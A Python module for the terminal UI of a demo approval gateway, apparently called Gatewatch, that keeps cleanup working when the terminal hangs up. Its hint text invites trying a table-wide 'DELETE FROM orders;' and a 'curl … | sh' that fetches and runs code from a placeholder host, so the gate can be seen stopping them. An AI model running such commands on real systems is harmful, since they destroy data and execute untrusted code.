"""The demo's TUI: the operator's app as the demo's approver, with what to try as its hint, on a
terminal that may close under it.

When the terminal closes (SIGHUP) the demo must still clean up. Textual (8.x) writes to the
terminal from a writer thread; a write to a hung-up terminal fails with EIO, which ends that
thread, and the next screen update then blocks the event loop on the thread's full queue — the
demo's cleanup never runs. So the demo's driver writes through ``_TerminalOutput``, which drops
what cannot be written once the terminal is gone, and Textual shuts down as after ``q``.
"""

from __future__ import annotations

import contextlib
import os
from collections.abc import Callable
from pathlib import Path
from typing import Any, TextIO

from textual.driver import Driver


class _TerminalOutput:
    """The terminal as Textual's writer thread sees it; after a hang-up, writes go nowhere."""

    def __init__(self, file: TextIO) -> None:
        self._file = file

    def write(self, text: str) -> int:
        try:
            return self._file.write(text)
        except OSError:     # EIO: the terminal is gone; the demo is about to stop
            return len(text)

    def flush(self) -> None:
        with contextlib.suppress(OSError):
            self._file.flush()

    def fileno(self) -> int:
        return self._file.fileno()

    def isatty(self) -> bool:
        return self._file.isatty()


def _driver() -> type[Driver] | None:
    """Textual's POSIX driver writing through ``_TerminalOutput``; None elsewhere (default)."""
    if os.name != "posix":
        return None
    from textual.drivers.linux_driver import LinuxDriver

    class DemoDriver(LinuxDriver):
        def __init__(self, *args: Any, **kwargs: Any) -> None:
            super().__init__(*args, **kwargs)
            self._file = _TerminalOutput(self._file)  # type: ignore[arg-type,assignment]

    return DemoDriver


async def run_tui(info: dict[str, Any], running: Callable[[Callable[[], object]], None]
                  ) -> None:
    """Run the TUI until ``q``, or until the callable it hands to ``running`` is called."""
    from tui.app import GatewatchApp
    from tui.source import LiveSource

    pg = info["postgres"]
    ssh = info["ssh"]
    hint = (f"demo: PGPASSWORD='{pg['password']}' psql 'host={pg['host']} port={pg['port']} "
            f"dbname={pg['dbname']} user={pg['user']} sslmode=require'  then try DELETE FROM "
            f"orders;\n"
            f"      ssh -p {ssh['port']} {ssh['user']}@{ssh['host']}  (password "
            f"{ssh['password']})  then try: curl -s https://example.invalid/x | sh\n"
            f"      another terminal: . {info['dir']}/operator.env; gatewatch sessions; "
            f"gatewatch approvals")
    if os.geteuid() != 0:
        hint += (f"\n      not root: the SSH target's shells run as you "
                 f"({info['ssh_direct']['runs_as']}) and can read this demo's files")
    app = GatewatchApp(LiveSource(Path(info["control"]), info["approver"]["token"]), hint=hint)
    driver = _driver()
    if driver is not None:
        app.driver_class = driver
    running(app.exit)
    await app.run_async()
